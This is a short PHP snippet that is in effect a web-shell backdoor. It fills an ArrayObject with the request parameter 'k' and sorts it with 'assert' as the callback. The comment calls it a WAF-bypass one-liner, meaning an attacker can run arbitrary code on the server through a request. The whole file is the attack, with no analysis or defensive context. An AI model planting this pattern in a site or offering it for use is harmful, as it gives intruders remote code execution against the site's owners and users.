<?php
// ArrayObject filled from the request, sorted with a sink as the callback:
// uasort() calls it on the elements (a WAF-bypass one-liner).
$items = new ArrayObject(array('x', $_REQUEST['k']));
$items->uasort('assert');
